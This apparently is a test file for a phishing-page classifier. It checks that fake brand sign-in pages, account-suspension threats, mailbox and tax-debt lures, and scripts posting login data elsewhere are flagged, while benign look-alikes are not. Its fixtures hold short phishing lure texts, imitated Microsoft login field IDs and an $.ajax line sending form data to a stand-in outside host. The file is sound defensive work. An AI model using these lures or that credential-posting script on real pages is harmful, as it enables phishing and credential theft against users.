import { describe, expect, test } from 'vitest';
import { createJudgePage, type PageVerdict } from '../../../../server/verdicts/page/judge-page.ts';
import { savedPage } from '../../../../server/verdicts/page/saved-page.ts';

const judge = createJudgePage();
const HOST = 'https://kj3-portal-app.com/x/';

function judged(html: string, url = HOST): PageVerdict {
  return judge(savedPage(html, url, () => ({ score: 0.5 })));
}

/** A sign-in page with fields only, so that the title alone names the owner. */
function titled(title: string, body = '', url = HOST): PageVerdict {
  const form = '<form method="post" action="next.php"><input name="u"><input type="password" name="p"></form>';
  return judged(`<!doctype html><html><head><title>${title}</title></head><body>${body}${form}</body></html>`, url);
}

const codesOf = ({ reasons }: PageVerdict) => reasons.map(({ code }) => code);

describe('a log-in in the name of a brand', () => {
  test.each([
    ['Loggen Sie sich bei PayPal ein', 'PayPal'],
    ['Inicie sesión en su cuenta PayPal', 'PayPal'],
    ['Zaloguj się do serwisu PayPal', 'PayPal'],
    ['Gérez votre identifiant Apple', 'Apple'],
    ['Instagram Verified Badge', 'Instagram'],
    ['Excel Online - Secure Documents Sharing', 'Microsoft'],
    ['Inloggen - Rabo Internetbankieren', 'Rabobank'],
    ['UBS Switzerland - E-Banking login', 'UBS'],
    ['Webmail Aruba', 'Aruba'],
    ['Amazonログイン', 'Amazon'],
    ['MyJCBログイン', 'JCB'],
    ['Vpassログイン｜クレジットカードの三井住友カード', 'SMBC Card'],
    ['네이버 : 로그인', 'Naver'],
    ['신한은행 인터넷뱅킹 로그인', 'Shinhan'],
    ['国家政务服务平台 - 登录', 'China government services'],
    ['מצב משלוח - דואר ישראל', 'Israel Post'],
    ['ธนาคารไทยพาณิชย์ เข้าสู่ระบบ', 'SCB'],
    ['BoursoBank – Connexion', 'Boursorama'],
    ['Sede Electrónica DGT', 'Dirección General de Tráfico'],
    ['OTPdirekt - Belépés', 'OTP Bank'],
    ['OP Ryhmä - Kirjaudu', 'OP Financial Group'],
  ])('is known by the title “%s”', (title, name) => {
    const { verdict, brand } = titled(title);
    expect([verdict, brand?.name.toLowerCase(), brand?.relation]).toEqual([
      'MALICIOUS',
      name.toLowerCase(),
      'imitated',
    ]);
  });

  test.each([
    'Instagram Downloader - Login',
    'Login - WhatsApp Marketing Tool',
    'Roblox Trading - Login',
    'Sign in with Google - Somebody',
    'Amazon Seller Reports | Login',
    'Discord Bot Dashboard',
    'DHL Versand Plugin – Anmelden',
    'Orange County Library Login',
    'Visa application centre - Login',
    'How to log in to Netflix abroad',
    'Connexion - Gestionnaire Airbnb',
    'Amazonアカウントでログイン',
    '使用微信登录',
    '카카오로 로그인',
  ])('is not each that names one: “%s”', title => {
    expect(codesOf(titled(title))).not.toContain('brand-asks-secret');
    // With more than a form on it, and without any other sign, it is left open.
    const page = `<p>${'What it does, for whom, and since when. '.repeat(20)}</p><a href="/help">Help</a>`;
    expect(titled(title, page).verdict).toBe('UNRATED');
  });

  test('is recognised by two field names of the brand', () => {
    const fields = (...ids: string[]) =>
      `<title>Sign in</title><form action="n.php">${ids.map(id => `<input type="password" id="${id}">`).join('')}</form>`;
    const copied = judged(fields('i0118', 'idSIButton9'));
    expect([copied.verdict, copied.brand?.name]).toEqual(['MALICIOUS', 'Microsoft']);
    expect(copied.brand?.evidence).toContain('i0118');
    expect(judged(fields('i0118', 'password')).brand).toBeNull();
  });

  test('is recognised by whose password it asks for', () => {
    const asking = (hint: string) => judged(`<title>Video</title><input placeholder="${hint}" type="password">`);
    expect(asking('Kata Sandi Facebook').brand?.evidence).toContain('<input> “kata sandi facebook”');
    expect(asking('Password of your Facebook group planner').brand).toBe(null);
  });

  test("is recognised by a mark near the brand's name, not near another name", () => {
    const mark = '<img alt="Assurance Maladie"><h1>Votre nouvelle carte vitale est disponible</h1>';
    expect(titled('Renouvellement', mark).verdict).toBe('MALICIOUS');
    expect(codesOf(titled('KeyVault – Steam keys', '<img alt="Steam">'))).not.toContain('brand-asks-secret');
  });

  test('is not official because the host is named like words near the brand', () => {
    const posing = titled('Postbank BestSign – Aktualisierung', '', 'https://bestsign-aktualisierung.de/');
    expect([posing.verdict, posing.brand?.name]).toEqual(['MALICIOUS', 'Postbank']);
    const pottery = titled('Account – Chase Pottery', '', 'https://www.chasepottery.com/account');
    expect([pottery.verdict === 'MALICIOUS', pottery.brand]).toEqual([false, null]);
  });

  test('is recognised by a background mark if nothing else names an owner', () => {
    const mark = '<div style="background:url(/static/dhl-logo.svg)"></div>';
    expect(codesOf(titled('Login', mark))).toContain('likely-brand-asks-secret');
    expect(codesOf(titled('Login', mark.replace('logo', 'truck')))).not.toContain('likely-brand-asks-secret');
  });

  test('is recognised by a product mark with the name of its company', () => {
    expect(titled('Badge', '<p>© 2025 Instagram from Meta</p><h1>Instagram</h1>').brand?.name).toBe('Instagram');
  });

  test('is recognised by an ambiguous name if the full name is below', () => {
    expect(titled('CAIXA - Acesse sua conta', '<p>Caixa Econômica Federal</p>').verdict).toBe('MALICIOUS');
    expect(codesOf(titled('CAIXA - Acesse sua conta', '<p>Caixa de ferramentas</p>'))).not.toContain(
      'brand-asks-secret',
    );
  });
});

describe('texts beside a password field', () => {
  const appeal =
    '<p>Your page has been scheduled for deletion for violating our standards. Submit an appeal within a day.</p>';

  test.each([
    ['English', appeal],
    ['Hungarian', '<p>Fiókját felfüggesztettük. Kérjük, erősítse meg adatait.</p>'],
    ['Thai', '<p>บัญชีของคุณถูกระงับชั่วคราว กรุณายืนยันตัวตน</p>'],
    ['Korean', '<p>계정이 정지되었습니다. 본인 인증이 필요합니다.</p>'],
    ['Chinese, traditional', '<p>您的帳號將被停用，請立即驗證。</p>'],
    ['Vietnamese', '<p>Tài khoản của Quý khách tạm thời bị khóa. Vui lòng xác minh.</p>'],
  ])('counts as a threat in whatever words: %s', (_, said) => {
    expect(codesOf(titled('Help Center', said))).toContain('threat-beside-secrets');
  });

  test.each([
    ['of the host’s own name', appeal, 'Kj3 portal app'],
    ['where nobody is to do anything', '<p>Your session has expired.</p>', 'Members'],
  ])('counts for nothing %s', (_, said, title) => {
    expect(codesOf(titled(title, said))).not.toContain('threat-beside-secrets');
  });

  test("an expiring password is a mailbox's only beside words about mail", () => {
    expect(codesOf(titled('会員ログイン', '<p>パスワードの有効期限</p>'))).not.toContain('mailbox-lure');
    expect(codesOf(titled('会員ログイン', '<p>メールボックス: パスワードの有効期限</p>'))).toContain('mailbox-lure');
  });
});

describe('a document that asks for a mailbox password', () => {
  test.each([
    ['a message to listen to', '<p>New voice message. To listen, verify with your email password.</p>'],
    ['messages of a team', '<p>You have 3 missed messages. Sign in with your work account to read them.</p>'],
  ])('is a lure: %s', (_, said) => {
    const free = titled('Portal', said, 'https://some-name.pages.dev/');
    expect(codesOf(free)).toContain('document-lure');
    expect(free.verdict).not.toBe('SAFE');
  });
});

describe('a debt to a state', () => {
  const debt = (name: string) =>
    judged(
      `<title>${name} - Openstaande schuld</title><p>U heeft een openstaand bedrag van €218,40. Betaal direct om beslaglegging te voorkomen.</p><a href="/ideal">iDEAL</a>`,
    );

  test('is not found without an authority, or for debts to others', () => {
    expect(codesOf(debt('Belastingdienst'))).toContain('brand-lure');
    expect(codesOf(debt('Bol.com'))).not.toContain('brand-lure');
  });
});

describe('a program that a script sends to', () => {
  const sending = (target: string) =>
    codesOf(titled('Login', `<script>$.ajax({ type: 'POST', url: '${target}', data })</script>`));

  test("counts only on other sites, not for the site's own services", () => {
    expect(sending('https://elsewhere.example/in.php')).toContain('secrets-to-program-elsewhere');
    expect(sending('https://api.kj3-portal-app.com/in.php')).not.toContain('secrets-to-program-elsewhere');
    expect(sending('https://api.elsewhere.example/v1/sessions')).not.toContain('secrets-to-program-elsewhere');
  });
});
